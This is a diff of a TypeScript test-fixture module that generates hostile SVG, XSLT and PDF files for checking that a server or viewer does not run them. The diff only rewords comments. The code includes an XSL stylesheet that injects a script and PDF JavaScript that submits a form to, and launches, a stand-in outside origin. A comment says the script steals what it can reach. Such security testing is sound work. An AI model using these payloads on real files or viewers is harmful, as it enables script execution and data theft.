@@ -2,23 +2,23 @@
 export interface HostileFile {
   name: string;
   content: Buffer;
-  /** The content type that a server would send if it trusted the name; with it the file must prove hostile. */
+  /** The type a trusting server would send; with it the file must prove hostile. */
   naiveType: string;
-  /** Whether opening it directly, from such a server, gives it away. Some need another document to run in. */
+  /** Whether opening it directly proves it; some need another document. */
   runsAlone: boolean;
-  /** The message it may show in an isolated viewer, where it reaches neither page nor network. */
+  /** A dialog it may show in an isolated viewer. */
   ownDialog?: string;
 }
 
 const svgNamespace = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"';
 
 /**
- * Files that run a script or ask a stranger's server for something as soon as they are opened, in every way we know.
- * `strangerOrigin` is the server that must never hear of it; `marker` is what a script would say.
+ * Files that run a script or make a request when opened. `strangerOrigin` must never be requested; `marker` is what a
+ * script prints.
  */
 export function hostileFiles(strangerOrigin: string, marker: string): HostileFile[] {
   const away = (name: string) => `${strangerOrigin}/away?${name}`;
-  // Reports in every possible way that it runs, and takes along what it can reach.
+  // Reports in every way that it runs, and steals what it can reach.
   const script = (name: string) =>
     [
       `console.log('${marker} ${name}')`,
@@ -108,7 +108,7 @@ function foreignObject(inside: string): string {
   return `<foreignObject width="100" height="100">${body}</foreignObject>`;
 }
 
-/** A document that is its own style sheet, which makes a page with a script of it. */
+/** Its own style sheet, which produces a page with a script. */
 function transformed(script: string): string {
   return `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="data:text/xml;base64,${Buffer.from(
     `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><html><body><script>${script.replaceAll('&', '&amp;')}</script></body></html></xsl:template></xsl:stylesheet>`,
@@ -120,7 +120,7 @@ function gif(): Buffer {
   return Buffer.from('R0lGODlhAQABAIAAAP///wAAACH5BAAAAAAALAAAAAABAAEAAAICRAEAOw==', 'base64');
 }
 
-/** One empty page that runs a script and sends a form when it is opened. */
+/** An empty page that runs a script and sends a form when opened. */
 function pdf(address: string, marker: string): Buffer {
   const script = `console.println('${marker} pdf'); app.alert('pdf'); this.submitForm('${address}'); app.launchURL('${address}');`;
   const objects = [
